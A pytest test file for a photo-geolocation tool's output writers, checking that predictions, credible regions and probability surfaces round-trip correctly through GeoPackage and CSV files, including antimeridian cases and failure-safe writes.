"""Output layers end to end: real cells, real OGR/GeoPackage, read back from disk.

Predictions are made by hand from a real CellHierarchy (photos clustered around Paris,
New York, Tokyo and Fiji, the last straddling the antimeridian), written with the real
writers, and read back with ``ogr.Open``, ``ogrinfo`` and ``sqlite3``.
"""

from __future__ import annotations

import csv
import hashlib
import math
import os
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
import s2sphere
from hypothesis import given, settings
from hypothesis import strategies as st
from osgeo import ogr
import shapely
from pyproj import Geod

from inference.outputs import gpkg_surface, places, schema
from inference.modeling.cell_geometry import cell_polygon, partition_areas_km2
from inference.modeling.cells import build_hierarchy, token_to_id
from inference.outputs.csv_out import failures_path, write_csv
from inference.geo import haversine_km
from inference.outputs.gpkg import GeoPackageError, WriteCancelled, write_geopackage
from inference.records import (
    Candidate,
    CellProbability,
    GeoPoint,
    PhotoFailure,
    Prediction,
)
from inference.geo import geodesic_area_km2
from inference.modeling.credible import density_order
from inference.outputs.regions import contains, credible_region
from inference.outputs.schema import RunInfo

GEOD = Geod(ellps="WGS84")
CENTRES = [(48.85, 2.35), (40.71, -74.0), (35.68, 139.69), (-17.8, 179.9)]


# ------------------------------------------------------------------------ fixtures


@pytest.fixture(scope="module")
def cells():
    rng = np.random.default_rng(0)
    lats, lons = [], []
    for lat, lon in CENTRES:
        lats += list(lat + rng.normal(0, 0.5, 100))
        lons += list(lon + rng.normal(0, 0.5, 100))
    lons = [((x + 180) % 360) - 180 for x in lons]
    h = build_hierarchy(lats, lons, 2, [150, 60, 20])
    assert h.num_levels == 3
    return h


def make_prediction(cells, path, weights, lat=None, lon=None, exif=None, top_k=3):
    """A Prediction consistent with `cells` from unnormalised weights over finest tokens."""
    h_last = cells.num_levels - 1
    finest = {c.token: i for i, c in enumerate(cells.levels[h_last].cells)}
    total = sum(weights.values())
    probs = {finest[t]: w / total for t, w in weights.items()}
    order = sorted(probs, key=lambda i: -probs[i])
    # as the predictor keeps them: by density (modeling/credible.py)
    areas = partition_areas_km2(cells.finest_tokens())
    ranked = [order[i] for i in density_order([probs[i] for i in order], areas[order])]
    fine = tuple(CellProbability(h_last, i, cells.cell(h_last, i).token, probs[i])
                 for i in ranked)
    marg = [{} for _ in range(cells.num_levels)]
    for i, p in probs.items():
        for h in range(cells.num_levels):
            j = int(cells.parents[i, h])
            marg[h][j] = marg[h].get(j, 0.0) + p
    level_top = tuple(
        tuple(CellProbability(h, j, cells.cell(h, j).token, marg[h][j])
              for j in sorted(marg[h], key=lambda j: -marg[h][j])[:5])
        for h in range(cells.num_levels))
    best = order[0]
    best_cells = tuple(
        CellProbability(h, int(cells.parents[best, h]),
                        cells.cell(h, int(cells.parents[best, h])).token,
                        marg[h][int(cells.parents[best, h])])
        for h in range(cells.num_levels))
    cands = tuple(Candidate(r + 1, cells.cell(h_last, i).lat, cells.cell(h_last, i).lon,
                            probs[i], cells.cell(h_last, i).token)
                  for r, i in enumerate(order[:top_k]))
    lat = cells.cell(h_last, best).lat if lat is None else lat
    lon = cells.cell(h_last, best).lon if lon is None else lon
    err = None if exif is None else haversine_km(exif.lat, exif.lon, lat, lon)
    # as read_photo gives it: the hash of the bytes that were decoded ("" for no file)
    digest = hashlib.sha256(Path(path).read_bytes()).hexdigest() if Path(path).is_file() else ""
    return Prediction(path=str(path), lat=lat, lon=lon, confidence=probs[best],
                      candidates=cands, best_cells=best_cells, level_top=level_top,
                      finest=fine, scene=1, scene_name="urban", scene_confidence=0.8,
                      exif_gps=exif, error_km=err, width=640, height=480, sha256=digest)


def centroid(token):
    c = cell_polygon(token).centroid
    return c.y, c.x


RUN = RunInfo(model_name="geodecoder-test", model_version="0.1", weights_sha256="ab" * 32,
              bundle_path="/models/test", device="cpu", started="2025-05-01T12:00:00Z",
              seconds=2.0, untrained=True, extra=(("backbone", "tiny"),),
              bundle_digest="cd" * 32)


@pytest.fixture()
def scene(tmp_path, cells):
    """Photos on disk and four predictions: Paris (EXIF inside), Tokyo (EXIF in New York),
    Fiji (no EXIF, across the antimeridian) and a photo file that has gone missing."""
    photos, out = tmp_path / "photos", tmp_path / "out"
    (out / "pics").mkdir(parents=True)
    photos.mkdir()
    a, b, c = photos / "a.jpg", out / "pics" / "b.jpg", photos / "c é.jpg"
    rng = np.random.default_rng(1)
    for p in (a, b, c):
        p.write_bytes(rng.bytes(3_000_000))  # bigger than one hash chunk
    paris = {"47e67": 40, "47e65": 20, "47e61": 15, "47e63": 10, "47e5d": 5, "47e5f": 4,
             "47e44": 3, "47ec": 3}
    tokyo = {"60184": 50, "60189": 25, "6018f": 15, "6019c": 6, "601f": 4}
    fiji = {"6e1fc": 30, "71e04": 30, "6e1e4": 15, "71e1c": 15, "6e1d": 6, "71e3": 4}
    preds = [
        make_prediction(cells, a, paris, lat=48.85, lon=2.35,
                        exif=GeoPoint(*centroid("47e67"))),
        make_prediction(cells, b, tokyo, exif=GeoPoint(40.71, -74.0)),
        make_prediction(cells, c, fiji),
        make_prediction(cells, photos / "gone.jpg", paris),
    ]
    failures = [PhotoFailure(str(photos / "broken.jpg"), "not an image (truncated JPEG)"),
                PhotoFailure(str(photos / "huge.tif"), "image too large: 40000 x 40000")]
    return {"preds": preds, "failures": failures, "out": out / "run.gpkg",
            "files": (a, b, c), "photos": photos}


def features(path, layer_name):
    ds = ogr.Open(str(path))
    layer = ds.GetLayerByName(layer_name)
    assert layer is not None, layer_name
    defn = layer.GetLayerDefn()
    names = [defn.GetFieldDefn(i).GetName() for i in range(defn.GetFieldCount())]
    out = []
    for f in layer:
        row = {n: (None if f.IsFieldNull(n) else f.GetField(n)) for n in names}
        g = f.GetGeometryRef()
        row["_geom"] = None if g is None else g.ExportToWkt()
        row["_wkb"] = None if g is None else bytes(g.ExportToWkb())
        row["_fid"] = f.GetFID()
        row["_xy"] = None if g is None or g.GetGeometryType() != ogr.wkbPoint \
            else (g.GetX(), g.GetY())
        out.append(row)
    return out


def by_file(rows):
    return {r["file_name"]: r for r in rows}


# -------------------------------------------------------------------------- places


def test_place_names_offline():
    paris = places.place_name(48.8566, 2.3522)
    assert (paris.city, paris.country_code) == ("Paris", "FR")
    assert paris.label == "near Paris, France" and paris.distance_km < 5
    sea = places.place_name(-25.0, 170.0)  # open sea south-west of Vanuatu
    assert sea.distance_km > places.NEAR_KM
    assert sea.label.startswith(f"{sea.distance_km:.0f} km from ")
    assert places.place_name(float("nan"), 0.0) == places.EMPTY_PLACE
    batch = places.place_names([(48.8566, 2.3522), (-25.0, 170.0), (35.68, 139.69)])
    assert batch[:2] == [paris, sea] and batch[2].country_code == "JP"


def test_place_names_across_the_antimeridian():
    """Taveuni (Fiji) lies across lon 180 from a point at lon 179.99: a nearest search in
    raw degrees would not see it; ours measures on the sphere."""
    west, east = places.place_name(-16.8, 179.99), places.place_name(-16.8, -179.99)
    assert west.country_code == east.country_code == "FJ"
    assert east.distance_km < 100


def test_place_names_without_data_give_empty_labels(monkeypatch):
    monkeypatch.setattr(places, "_data_dir", lambda: None)
    places._gazetteer.cache_clear()
    try:
        assert places.place_name(48.85, 2.35).label == ""
        assert places.place_names([(0, 0), (1, 1)]) == [places.EMPTY_PLACE] * 2
    finally:
        places._gazetteer.cache_clear()


# ------------------------------------------------------------------------- regions


def test_credible_regions_nested_and_minimal(scene, cells):
    p = scene["preds"][0]
    finest = cells.finest_tokens()
    r50, r90 = credible_region(p, 0.5, finest), credible_region(p, 0.9, finest)
    assert r50.covered >= 0.5 and r90.covered >= 0.9
    probs = [c.probability for c in p.finest]
    assert sum(probs[:r50.n_cells - 1]) < 0.5 and sum(probs[:r90.n_cells - 1]) < 0.9
    assert r50.n_cells < r90.n_cells
    assert r90.geometry.buffer(1e-8).covers(r50.geometry)  # 50 % inside 90 % (to 1 mm)
    assert 0 < r50.area_km2 < r90.area_km2
    assert r90.geometry.is_valid and r90.geometry.geom_type == "MultiPolygon"
    assert contains(r90, *centroid("47e67")) and not contains(r90, 40.71, -74.0)


def test_single_cell_area_matches_pyproj_and_s2(scene, cells):
    p = make_prediction(cells, "x.jpg", {"47e67": 60, "47e65": 40})
    r = credible_region(p, 0.5, cells.finest_tokens())
    assert r.n_cells == 1 and r.covered == pytest.approx(0.6)
    ring = cell_polygon("47e67").geoms[0].exterior
    lon, lat = ring.xy
    expected = abs(GEOD.polygon_area_perimeter(list(lon), list(lat))[0]) / 1e6
    assert r.area_km2 == pytest.approx(expected, rel=1e-7)  # 1e-9 degree snapping
    s2 = s2sphere.Cell(s2sphere.CellId(token_to_id("47e67"))).exact_area() * 6371.0 ** 2
    assert r.area_km2 == pytest.approx(s2, rel=0.01)  # ellipsoid vs sphere


def test_region_across_the_antimeridian(cells):
    p = make_prediction(cells, "fiji.jpg", {"6e1fc": 50, "71e04": 45, "6e1d": 5})
    r = credible_region(p, 0.9, cells.finest_tokens())
    assert r.n_cells == 2 and r.geometry.is_valid and len(r.geometry.geoms) == 2
    minx, _, maxx, _ = r.geometry.bounds
    assert minx == pytest.approx(-180) and maxx == pytest.approx(180)
    parts = [geodesic_area_km2(cell_polygon(t)) for t in ("6e1fc", "71e04")]
    assert r.area_km2 == pytest.approx(sum(parts), rel=1e-7)
    assert parts[0] == pytest.approx(parts[1], rel=1e-6)  # mirror images across 180
    for lon in (179.9, -179.9, 180.0, -180.0):
        assert contains(r, -16.9, lon)
    assert not contains(r, -16.9, 178.0)


def test_split_face_area_is_a_sixth_of_the_earth():
    """Face 3 (token 7) is cut in two by the antimeridian; its parts add up."""
    g = cell_polygon("7")
    assert len(g.geoms) == 2 and g.is_valid
    area = geodesic_area_km2(g)
    assert area == pytest.approx(sum(geodesic_area_km2(p) for p in g.geoms))
    assert area == pytest.approx(510_065_622 / 6, rel=0.005)


@settings(max_examples=25, deadline=None)
@given(st.lists(st.floats(0.01, 1.0), min_size=2, max_size=12),
       st.sampled_from([0.3, 0.5, 0.9, 0.99]))
def test_region_properties(cells, weights, mass):
    toks = [c.token for c in cells.levels[-1].cells][:len(weights)]
    p = make_prediction(cells, "x.jpg", dict(zip(toks, weights)))
    r = credible_region(p, mass, cells.finest_tokens())
    probs = [c.probability for c in p.finest]
    assert r.covered >= mass - 1e-12 or r.n_cells == len(probs)
    assert sum(probs[:r.n_cells - 1]) < mass
    assert r.area_km2 > 0 and r.geometry.is_valid
    smaller = credible_region(p, mass / 2, cells.finest_tokens())
    assert smaller.n_cells <= r.n_cells
    assert r.geometry.buffer(1e-8).covers(smaller.geometry)


# ------------------------------------------------------------------------- schema


def test_layer_defs_and_row_functions(scene, cells):
    names = [d.name for d in schema.layer_defs(cells.num_levels)]
    assert names == ["predictions", "candidates", "cells_level_0", "cells_level_1",
                     "cells_level_2", "surface", "regions", "constraints", "failures",
                     "run_info"]
    preds = scene["preds"]
    rows = schema.prediction_rows(
        preds, scene["out"], RUN, regions=schema.photo_regions(preds, cells.finest_tokens()))
    fields = {f.name for f in schema.prediction_fields(cells.num_levels)}
    for row in rows:
        assert set(row.values) == fields
        assert all(v is None or isinstance(v, (str, int, float)) for v in row.values.values())
    assert rows[0].geometry.x == 2.35 and rows[0].geometry.y == 48.85
    level1 = schema.cell_rows(preds, cells, 1)
    assert len(level1) == sum(len(p.level_top[1]) for p in preds)
    counts = {c.token: c.count for c in cells.levels[1].cells}
    assert all(r.values["train_photos"] == counts[r.values["cell_token"]] for r in level1)
    info = {r.values["key"]: r.values["value"] for r in schema.run_info_rows(
        preds, scene["failures"], RUN)}
    assert info["photos"] == "6" and info["failures"] == "2" and info["untrained"] == "1"
    assert info["photos_per_s"] == "3.000" and info["backbone"] == "tiny"


# -------------------------------------------------------------------------- gpkg


def test_geopackage_round_trip(scene, cells):
    preds, failures, out = scene["preds"], scene["failures"], scene["out"]
    assert write_geopackage(out, preds, failures, cells, RUN) == out
    ds = ogr.Open(str(out))
    assert ds.GetDriver().GetName() == "GPKG"
    layers = {ds.GetLayer(i).GetName(): ds.GetLayer(i) for i in range(ds.GetLayerCount())}
    defs = {d.name: d for d in schema.layer_defs(cells.num_levels)}
    # the surface layer is a view of two tables the file holds as well; the "Why here?"
    # maps have a table of their own (empty: these records carry none)
    assert set(layers) == set(defs) | {"surface_values", "surface_cells", "attention_maps"}
    defs.update({d.name: d for d in (gpkg_surface.VALUES_DEF, gpkg_surface.CELLS_DEF)})
    # no maps in these records; the table's contents: tests/test_plugin_reading.py
    assert layers.pop("attention_maps").GetFeatureCount() == 0
    expected_counts = {
        "predictions": 4, "candidates": sum(len(p.candidates) for p in preds),
        **{f"cells_level_{h}": sum(len(p.level_top[h]) for p in preds) for h in range(3)},
        "surface": sum(len(p.finest) for p in preds), "regions": 8, "failures": 2,
        "run_info": len(schema.run_info_rows(preds, failures, RUN)),
        "constraints": 0,  # written by every run, empty without a constraint
        "surface_values": sum(len(p.finest) for p in preds),
        "surface_cells": len({c.token for p in preds for c in p.finest}),
    }
    for name, layer in layers.items():
        assert layer.GetFeatureCount() == expected_counts[name], name
        defn = layer.GetLayerDefn()
        got = [(defn.GetFieldDefn(i).GetName(), ogr.GetFieldTypeName(defn.GetFieldDefn(i)
                                                                      .GetType()))
               for i in range(defn.GetFieldCount())]
        assert got == [(f.name, f.type) for f in defs[name].fields], name
        want = {"Point": ogr.wkbPoint, "MultiPolygon": ogr.wkbMultiPolygon,
                None: ogr.wkbNone}[defs[name].geometry]
        assert layer.GetGeomType() == want, name
        if want != ogr.wkbNone:
            srs = layer.GetSpatialRef()
            assert (srs.GetAuthorityName(None), srs.GetAuthorityCode(None)) == ("EPSG", "4326")
            assert layer.GetGeometryColumn() == "geom"
        else:
            assert layer.GetSpatialRef() is None


def test_geopackage_values(scene, cells):
    preds, out = scene["preds"], scene["out"]
    a, b, c = scene["files"]
    write_geopackage(out, preds, scene["failures"], cells, RUN)
    rows = by_file(features(out, "predictions"))
    paris, tokyo, fiji, gone = (rows[n] for n in ("a.jpg", "b.jpg", "c é.jpg", "gone.jpg"))
    assert paris["_xy"] == (2.35, 48.85)  # x = longitude
    assert (paris["lat"], paris["lon"]) == (48.85, 2.35)
    assert paris["photo_path"] == str(a) and paris["photo_relpath"] == "../photos/a.jpg"
    assert tokyo["photo_relpath"] == "pics/b.jpg" and fiji["photo_relpath"] == "../photos/c é.jpg"
    for row, f in ((paris, a), (tokyo, b), (fiji, c)):
        assert row["sha256"] == hashlib.sha256(f.read_bytes()).hexdigest()
    assert gone["sha256"] == ""
    # EXIF: inside the 90 % region, outside it, absent
    assert paris["exif_conflict"] == 0 and tokyo["exif_conflict"] == 1
    for key in ("exif_lat", "exif_lon", "error_km", "exif_conflict"):
        assert fiji[key] is None, key
    assert tokyo["error_km"] == pytest.approx(
        haversine_km(40.71, -74.0, preds[1].lat, preds[1].lon))
    assert tokyo["error_km"] > 10_000
    # per-level cells, places, provenance
    for h in range(3):
        assert paris[f"cell_{h}"] == preds[0].best_cells[h].token
        assert paris[f"cell_{h}_prob"] == pytest.approx(preds[0].best_cells[h].probability)
    assert paris["country_code"] == "FR" and "France" in paris["place"]
    assert tokyo["country_code"] == "JP" and fiji["country_code"] == "FJ"
    assert paris["scene"] == "urban" and paris["model_name"] == "geodecoder-test"
    assert paris["weights_sha256"] == "ab" * 32 and paris["device"] == "cpu"
    assert paris["bundle_digest"] == "cd" * 32  # the model: weights and settings
    assert paris["run_time"].startswith("2025/05/01 12:00:00")  # OGR's DateTime text
    r50 = credible_region(preds[0], 0.5, cells.finest_tokens())
    assert paris["region50_km2"] == pytest.approx(r50.area_km2)
    assert paris["region50_km2"] < paris["region90_km2"]


def test_geopackage_polygon_layers(scene, cells):
    preds, out = scene["preds"], scene["out"]
    write_geopackage(out, preds, scene["failures"], cells, RUN)
    regions = [r for r in features(out, "regions") if r["file_name"] == "c é.jpg"]
    assert sorted(r["mass"] for r in regions) == [0.5, 0.9]
    for r in regions:
        g = ogr.CreateGeometryFromWkt(r["_geom"])
        assert g.GetGeometryType() == ogr.wkbMultiPolygon and g.IsValid()
        assert r["covered"] >= r["mass"]
        env = g.GetEnvelope()  # the Fiji regions straddle the antimeridian
        assert env[0] == pytest.approx(-180) and env[1] == pytest.approx(180)
    surface = [r for r in features(out, "surface") if r["file_name"] == "a.jpg"]
    assert sum(r["probability"] for r in surface) == pytest.approx(1.0)
    level2 = [r for r in features(out, "cells_level_2") if r["file_name"] == "a.jpg"]
    assert [r["rank"] for r in level2] == [1, 2, 3, 4, 5]
    counts = {c.token: c.count for c in cells.levels[2].cells}
    assert all(r["train_photos"] == counts[r["cell_token"]] for r in level2)
    fails = by_file(features(out, "failures"))
    assert fails["broken.jpg"]["reason"].startswith("not an image")
    info = {r["key"]: r["value"] for r in features(out, "run_info")}
    assert info["model_name"] == "geodecoder-test" and info["levels"] == "3"
    assert info["weights_sha256"] == "ab" * 32 and info["bundle_digest"] == "cd" * 32


def test_the_surface_view_reads_as_one_polygon_row_per_photo_and_cell(scene, cells):
    """What a surface layer of polygon rows held, read back through the view: per
    photo its finest cells in order, each with its own cell's outline, feature ids 1..N,
    the photo index used; each outline is stored once however many photos use it."""
    preds, out = scene["preds"], scene["out"]
    write_geopackage(out, preds, scene["failures"], cells, RUN)
    rows = features(out, "surface")
    want = [(p.path, c.token, c.probability) for p in preds for c in p.finest]
    assert [(r["photo_path"], r["cell_token"], r["probability"]) for r in rows] == want
    assert [r["_fid"] for r in rows] == list(range(1, len(want) + 1))
    for r in rows:
        drawn = shapely.from_wkb(r["_wkb"])
        assert drawn.equals_exact(cell_polygon(r["cell_token"]), 0), r["cell_token"]
    stored = features(out, "surface_cells")
    assert sorted(r["cell_token"] for r in stored) == sorted({t for _, t, _ in want})
    ds = ogr.Open(str(out))
    layer = ds.GetLayerByName("surface")
    assert layer.GetGeomType() == ogr.wkbMultiPolygon
    layer.SetAttributeFilter(f"photo_path = '{preds[1].path}'")
    assert layer.GetFeatureCount() == len(preds[1].finest)
    minx, maxx, miny, maxy = layer.GetExtent()
    union = shapely.union_all([cell_polygon(t) for _, t, _ in want]).bounds
    assert (minx, miny, maxx, maxy) == pytest.approx(union)
    db = sqlite3.connect(out)
    try:
        stored_extent = db.execute("SELECT min_x, min_y, max_x, max_y FROM gpkg_contents "
                                   "WHERE table_name = 'surface'").fetchone()
    finally:
        db.close()
    assert stored_extent == pytest.approx(union, abs=1e-12)
    plan = ds.ExecuteSQL("EXPLAIN QUERY PLAN SELECT * FROM surface WHERE photo_path = 'x'")
    text = " ".join(str(f.GetField(f.GetFieldCount() - 1)) for f in plan)
    ds.ReleaseResultSet(plan)
    # one photo: its predictions row by the path index, its values by the photo index,
    # each value's outline by its fid; nothing scanned
    assert "predictions_photo_path" in text and "surface_values_photo " in text, text
    assert "SCAN" not in text, text


def test_ogrinfo_reads_the_file(scene, cells):
    if shutil.which("ogrinfo") is None:
        pytest.skip("ogrinfo is not installed")
    out = scene["out"]
    write_geopackage(out, scene["preds"], scene["failures"], cells, RUN)
    text = subprocess.run(["ogrinfo", "-so", "-al", str(out)], capture_output=True,
                          text=True, check=True).stdout
    blocks = {b.split("\n", 1)[0].strip(): b for b in text.split("Layer name: ")[1:]}
    assert set(blocks) == {d.name for d in schema.layer_defs(3)} | {
        "surface_values", "surface_cells", "attention_maps"}
    assert "Geometry: Multi Polygon" in blocks["surface"]
    pred = blocks["predictions"]
    assert "Geometry: Point" in pred and "Feature Count: 4" in pred
    assert 'ID["EPSG",4326]' in pred
    assert "Data axis to CRS axis mapping: 2,1" in pred  # stored as lon/lat
    assert "exif_conflict: Integer" in pred and "run_time: DateTime" in pred
    assert "Geometry: Multi Polygon" in blocks["regions"]
    assert "Feature Count: 2" in blocks["failures"]


def test_file_passes_gdal_geopackage_validator(scene, cells, tmp_path):
    """GDAL's own conformance checker (requirement by requirement of the OGC spec)."""
    validate = pytest.importorskip("osgeo_utils.samples.validate_gpkg")
    out = scene["out"]
    write_geopackage(out, scene["preds"], scene["failures"], cells, RUN,
                     styles={"*": "<qgis/>"})
    validate.check(str(out), extra_checks=True, warning_as_error=True)
    empty = tmp_path / "empty.gpkg"
    write_geopackage(empty, [], scene["failures"], cells, RUN)
    validate.check(str(empty), extra_checks=True, warning_as_error=True)


def test_non_utf8_file_name_does_not_fail_the_file(tmp_path, cells):
    """On Linux a file name may be any bytes; OGR refuses Python's surrogate escapes."""
    name = os.fsdecode(b"caf\xe9.jpg")
    try:
        (tmp_path / name).write_bytes(b"jpeg bytes")
    except (OSError, UnicodeEncodeError):
        pytest.skip("this file system does not take non-UTF-8 names")
    pred = make_prediction(cells, tmp_path / name, {"47e67": 1.0})
    fail = PhotoFailure(str(tmp_path / name), f"cannot read {name}")
    out = tmp_path / "odd.gpkg"
    write_geopackage(out, [pred], [fail], cells, RUN)
    row = features(out, "predictions")[0]
    assert row["file_name"] == "caf\\xe9.jpg"
    assert row["sha256"] == hashlib.sha256(b"jpeg bytes").hexdigest()
    assert features(out, "failures")[0]["reason"].endswith("caf\\xe9.jpg")
    main, _ = write_csv(tmp_path / "odd.csv", [pred], [fail], cells, RUN)
    assert "caf\\xe9.jpg" in main.read_text(encoding="utf-8")


# ------------------------------------------------------------------------ atomicity


def _folder_listing(folder):
    return sorted(p.name for p in folder.iterdir())


def test_failed_write_keeps_the_old_file(scene, cells, monkeypatch):
    out = scene["out"]
    write_geopackage(out, scene["preds"], scene["failures"], cells, RUN)
    before, listing = out.read_bytes(), _folder_listing(out.parent)
    # 1) a record that OGR cannot take: a cell token that is no S2 cell, reached after the
    #    predictions and candidates layers are written to the temporary file
    bad = scene["preds"][0]
    top = list(bad.level_top)
    top[2] = top[2][:1] + (CellProbability(2, 0, "zz", 0.01),)
    broken = Prediction(**{**bad.__dict__, "level_top": tuple(top)})
    with pytest.raises(ValueError):
        write_geopackage(out, [broken], [], cells, RUN)
    assert out.read_bytes() == before and _folder_listing(out.parent) == listing
    # 2) the last layer fails, with every other layer already in the temporary file
    seen = []

    def boom(*args, **kwargs):
        seen.extend(p.name for p in out.parent.glob("*.tmp.gpkg"))
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(schema, "run_info_rows", boom)
    with pytest.raises(RuntimeError, match="disk on fire"):
        write_geopackage(out, scene["preds"], [], cells, RUN)
    assert seen, "the temporary file should exist when the last layer is written"
    assert out.read_bytes() == before and _folder_listing(out.parent) == listing


def test_cancel_keeps_the_old_file(scene, cells):
    out = scene["out"]
    write_geopackage(out, scene["preds"], scene["failures"], cells, RUN)
    before = out.read_bytes()
    calls = []

    def cancel_late():
        calls.append(1)
        return len(calls) > 6

    with pytest.raises(WriteCancelled):
        write_geopackage(out, scene["preds"], [], cells, RUN, is_cancelled=cancel_late)
    assert out.read_bytes() == before
    assert not list(out.parent.glob("*.tmp*"))


def test_a_failed_surface_load_keeps_the_old_file_and_says_why(scene, cells, monkeypatch):
    """The values go in with SQLite at commit: an SQLite error there (a full disk, say)
    is a GeoPackageError like GDAL's, the destination stays as it was, and neither the
    temporary file nor the spool stays behind."""
    out = scene["out"]
    write_geopackage(out, scene["preds"], scene["failures"], cells, RUN)
    before, listing = out.read_bytes(), _folder_listing(out.parent)
    monkeypatch.setattr(gpkg_surface, "_INSERT", "INSERT INTO no_such_table VALUES (?, ?, ?)")
    with pytest.raises(GeoPackageError, match="probability surface.*no_such_table"):
        write_geopackage(out, scene["preds"], [], cells, RUN)
    assert out.read_bytes() == before and _folder_listing(out.parent) == listing


def test_a_full_disk_while_the_surface_values_load_says_so(scene, cells, monkeypatch):
    """SQLite rolls the load back by itself when the disk fills: the error the user sees is
    the full disk, and nothing is left behind."""
    out = scene["out"]
    connect = sqlite3.connect

    def full_disk(path, **kwargs):
        db = connect(path, **kwargs)
        pages = db.execute("PRAGMA page_count").fetchone()[0]
        db.execute(f"PRAGMA max_page_count = {pages}")  # no page more than it has now
        return db

    monkeypatch.setattr(gpkg_surface.sqlite3, "connect", full_disk)
    with pytest.raises(GeoPackageError, match="probability surface.*disk is full"):
        write_geopackage(out, list(scene["preds"]) * 40, [], cells, RUN)
    assert not out.exists() and _folder_listing(out.parent) == ["pics"]


def test_surface_values_go_in_exact_and_leave_gdals_count_triggers_working(scene, cells):
    out = scene["out"]
    preds = scene["preds"]
    write_geopackage(out, preds, scene["failures"], cells, RUN)
    want = [c.probability for p in preds for c in p.finest]
    db = sqlite3.connect(out)
    try:
        got = [r[0] for r in db.execute("SELECT probability FROM surface_values ORDER BY fid")]
        triggers = {r[0] for r in db.execute(
            "SELECT name FROM sqlite_master WHERE type = 'trigger' "
            "AND tbl_name = 'surface_values'")}
        count = "SELECT feature_count FROM gpkg_ogr_contents " \
                "WHERE table_name = 'surface_values'"
        assert db.execute(count).fetchone()[0] == len(want)
        with db:  # GDAL's triggers keep the count as another program adds a row
            db.execute("INSERT INTO surface_values (photo_fid, cell_fid, probability) "
                       "VALUES (1, 1, 0.5)")
        assert db.execute(count).fetchone()[0] == len(want) + 1
    finally:
        db.close()
    assert got == want  # bound as doubles: bit for bit
    assert triggers == {"trigger_insert_feature_count_surface_values",
                        "trigger_delete_feature_count_surface_values"}
    ds = ogr.Open(str(out))
    assert ds.GetLayerByName("surface_values").GetFeatureCount() == len(want) + 1


def test_failed_first_write_leaves_nothing(scene, cells, monkeypatch):
    out = scene["out"]
    monkeypatch.setattr(schema, "region_rows", lambda *a, **k: 1 / 0)
    with pytest.raises(ZeroDivisionError):
        write_geopackage(out, scene["preds"], [], cells, RUN)
    assert not out.exists() and _folder_listing(out.parent) == ["pics"]


def test_all_photos_failed(tmp_path, cells):
    out = tmp_path / "none.gpkg"
    fails = [PhotoFailure(str(tmp_path / f"{i}.jpg"), "cannot read") for i in range(3)]
    write_geopackage(out, [], fails, cells, RUN)
    ds = ogr.Open(str(out))
    counts = {ds.GetLayer(i).GetName(): ds.GetLayer(i).GetFeatureCount()
              for i in range(ds.GetLayerCount())}
    assert counts.pop("failures") == 3 and counts.pop("run_info") > 0
    assert set(counts.values()) == {0} and "predictions" in counts and "surface" in counts
    assert ds.GetLayerByName("predictions").GetSpatialRef().GetAuthorityCode(None) == "4326"
    info = {r["key"]: r["value"] for r in features(out, "run_info")}
    assert (info["photos"], info["predicted"], info["failures"]) == ("3", "0", "3")
    if shutil.which("ogrinfo"):
        res = subprocess.run(["ogrinfo", "-so", "-al", str(out)], capture_output=True,
                             text=True, check=False)
        assert res.returncode == 0 and "Feature Count: 3" in res.stdout


def test_layer_styles_table(scene, cells):
    out = scene["out"]
    styles = {"predictions": "<qgis>points</qgis>", "cells_level_*": "<qgis>cells</qgis>",
              "failures": "<qgis>table</qgis>", "no_such_layer": "<qgis/>"}
    write_geopackage(out, scene["preds"], scene["failures"], cells, RUN, styles=styles)
    con = sqlite3.connect(out)
    try:
        cols = [(r[1], r[2].upper(), r[5]) for r in con.execute(
            "PRAGMA table_info(layer_styles)")]
        assert [c[0] for c in cols] == [
            "id", "f_table_catalog", "f_table_schema", "f_table_name", "f_geometry_column",
            "styleName", "styleQML", "styleSLD", "useAsDefault", "description", "owner",
            "ui", "update_time"]
        types = {c[0]: c[1] for c in cols}
        assert types["id"] == "INTEGER" and cols[0][2] == 1  # primary key
        assert types["useAsDefault"] == "BOOLEAN" and types["update_time"] == "DATETIME"
        ddl = con.execute("SELECT sql FROM sqlite_master WHERE name='layer_styles'").fetchone()
        assert "AUTOINCREMENT" in ddl[0].upper() and "CURRENT_TIMESTAMP" in ddl[0].upper() \
            or "strftime" in ddl[0]
        rows = con.execute("SELECT f_table_name, f_geometry_column, f_table_schema, "
                           "useAsDefault, styleQML, update_time FROM layer_styles "
                           "ORDER BY f_table_name").fetchall()
    finally:
        con.close()
    assert [r[0] for r in rows] == ["cells_level_0", "cells_level_1", "cells_level_2",
                                    "failures", "predictions"]
    by_name = {r[0]: r for r in rows}
    assert by_name["predictions"][1] == "geom" and by_name["failures"][1] == ""
    assert all(r[2] == "" and r[3] == 1 and r[5] for r in rows)
    assert by_name["cells_level_1"][4] == "<qgis>cells</qgis>"
    # without styles there is no table
    write_geopackage(out, scene["preds"], [], cells, RUN)
    assert ogr.Open(str(out)).GetLayerByName("layer_styles") is None


# ---------------------------------------------------------------------------- csv


def test_csv_round_trip(scene, cells):
    preds, out = scene["preds"], scene["out"].with_suffix(".csv")
    main, fails = write_csv(out, preds, scene["failures"], cells, RUN)
    assert main == out and fails == failures_path(out) == out.with_name("run_failures.csv")
    with open(out, newline="", encoding="utf-8") as fh:
        reader = csv.DictReader(fh)
        header, rows = reader.fieldnames, list(reader)
    base = [f.name for f in schema.prediction_fields(3)]
    assert header == base + [f"cand{k}_{x}" for k in (1, 2, 3) for x in ("lat", "lon", "prob")]
    assert len(rows) == 4
    paris = by_file(rows)["a.jpg"]
    assert float(paris["lat"]) == 48.85 and float(paris["lon"]) == 2.35
    assert paris["weights_sha256"] == "ab" * 32 and paris["bundle_digest"] == "cd" * 32
    assert paris["photo_relpath"] == "../photos/a.jpg" and paris["exif_conflict"] == "0"
    assert float(paris["cand1_prob"]) == preds[0].candidates[0].probability
    fiji = by_file(rows)["c é.jpg"]
    assert fiji["exif_lat"] == "" and fiji["exif_conflict"] == "" and fiji["error_km"] == ""
    r90 = credible_region(preds[2], 0.9, cells.finest_tokens())
    assert math.isclose(float(fiji["region90_km2"]), r90.area_km2)
    with open(fails, newline="", encoding="utf-8") as fh:
        frows = list(csv.DictReader(fh))
    assert [r["file_name"] for r in frows] == ["broken.jpg", "huge.tif"]
    # a failing rewrite leaves both files as they were and no temporary file
    before = (out.read_bytes(), fails.read_bytes())
    bad = Prediction(**{**preds[0].__dict__, "finest": (CellProbability(2, 0, "zz", 1.0),)})
    with pytest.raises(ValueError):
        write_csv(out, [bad], [], cells, RUN)
    assert (out.read_bytes(), fails.read_bytes()) == before
    assert not list(out.parent.glob("*.tmp*"))


